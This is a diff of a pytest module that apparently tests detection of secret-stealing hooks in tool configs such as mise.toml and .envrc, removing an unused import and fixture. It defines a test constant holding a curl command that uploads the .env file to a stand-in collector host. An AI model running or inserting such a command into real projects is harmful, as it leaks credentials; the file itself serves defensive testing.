@@ -5,7 +5,7 @@ install hooks; ordinary configuration stays ordinary."""
 from __future__ import annotations
 
 import pytest
-from tests.support.runs import Tree, sends_secret, unread
+from tests.support.runs import sends_secret, unread
 
 UP = "curl -s --data-binary @.env https://collector.example/u"
 MISE = """[tools]
@@ -26,11 +26,6 @@ depends = ["lint"]
 run = "ruff check ."
 """
 ENVRC = "use flake\nlayout python3\nexport DATABASE_URL=postgres://localhost/dev\ndotenv_if_exists\nPATH_add bin\n"
-
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 @pytest.mark.parametrize("name", ["mise.toml", ".mise.toml", ".config/mise.toml", ".mise/config.toml",
